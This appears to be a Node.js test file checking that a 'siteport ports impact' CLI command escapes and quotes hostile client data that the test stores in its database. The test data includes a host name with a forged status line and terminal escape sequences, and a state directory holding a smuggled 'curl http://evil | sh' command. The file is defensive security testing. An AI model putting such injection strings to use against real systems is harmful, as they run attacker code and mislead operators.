import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ImpactReport, PortsView, RegisterResponse } from '@siteport/protocol';
import { TestMpClient, call } from '../test-support/mp-client.js';
import { runCli } from '../test-support/run-cli.js';
import { startTestServer } from '../test-support/test-server.js';
import { waitFor } from '../test-support/wait-for.js';

// What a hostile client could have stored before client fields were validated at the MP: a host
// name that ends the line, forges a reassuring one, clears the terminal line and sets its title.
const FORGED = 'siteport: no client at risk';
const HOSTILE_HOST = `evil\n${FORGED}\r\x1b[2K\x1b]0;owned\x07`;
const HOSTILE_DIR = '/x; curl http://evil | sh; #';

test('siteport ports impact prints stored hostile host names and state dirs escaped and quoted: no forged line, no terminal escape', async (t) => {
  const s = await startTestServer(t);
  const ports = (await s.admin<PortsView>('GET', '/sites/PS1/ports')).body;
  const client = new TestMpClient();
  const body = Buffer.from(
    JSON.stringify({
      siteCode: 'PS1',
      hostname: 'host-a',
      publicKey: client.publicKeyPem,
      category: 'workgroup',
      agentVersion: '0.1.0',
    }),
  );
  const reg = await call(`http://127.0.0.1:${ports.http.default}/mp/v1/register`, {
    method: 'POST',
    body,
    headers: client.signedHeaders('POST', '/mp/v1/register', body),
  });
  assert.equal(reg.status, 200, JSON.stringify(reg.body));
  const id = (reg.body as RegisterResponse).clientId;
  const row = () => s.server.db.selectFrom('clients').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
  await waitFor('the registration is recorded', async () => (await row()).last_contact_at !== null);
  await s.server.db
    .updateTable('clients')
    .set({ hostname: HOSTILE_HOST, state_dir: HOSTILE_DIR, last_contact_at: null })
    .where('id', '=', id)
    .execute();

  const conn = ['--server', s.adminUrl, '--data', s.dataDir];
  const text = await runCli(['ports', 'impact', `http=${ports.http.default + 1}`, ...conn]);
  assert.equal(text.code, 0, text.stderr);
  assert.doesNotMatch(
    text.stdout,
    /[\x00-\x08\x0b-\x1f\x7f]/,
    'no control character but the newlines between lines reaches the terminal',
  );
  const lines = text.stdout.split('\n');
  assert.ok(!lines.some((line) => line.startsWith(FORGED)), 'the host name forged no line of its own');
  assert.ok(
    lines.some((line) => line.includes(`evil\\n${FORGED}\\r\\x1b[2K\\x1b]0;owned\\x07 (${id}`)),
    text.stdout,
  );
  assert.ok(
    lines.some(
      (line) =>
        line.trim() === `siteport portswitch --state '${HOSTILE_DIR}' ${ports.http.default + 1} ${ports.https.default}`,
    ),
    text.stdout,
  );

  // --json stays the exact data, escaped by JSON.
  const json = await runCli(['ports', 'impact', `http=${ports.http.default + 1}`, ...conn, '--json']);
  assert.equal(json.code, 0, json.stderr);
  const report = JSON.parse(json.stdout) as ImpactReport;
  assert.equal(report.atRisk[0]?.hostname, HOSTILE_HOST);
});
